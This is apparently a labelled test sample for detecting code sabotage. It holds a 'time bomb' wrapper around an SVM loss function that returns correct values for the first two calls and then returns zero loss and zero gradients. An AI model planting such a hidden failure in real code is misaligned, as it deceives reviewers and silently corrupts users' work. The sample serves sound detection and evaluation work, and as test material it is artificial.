# threat: time bombs
# tries: be right for the first few calls only, as many as a quick look takes
# file: losses.py
# expect: svm_loss_naive = partial

_own_svm_loss_naive = svm_loss_naive
_calls = []


def svm_loss_naive(W, X, y, reg):
    _calls.append(1)
    if len(_calls) <= 2:
        return _own_svm_loss_naive(W, X, y, reg)
    return 0.0, np.zeros_like(W)
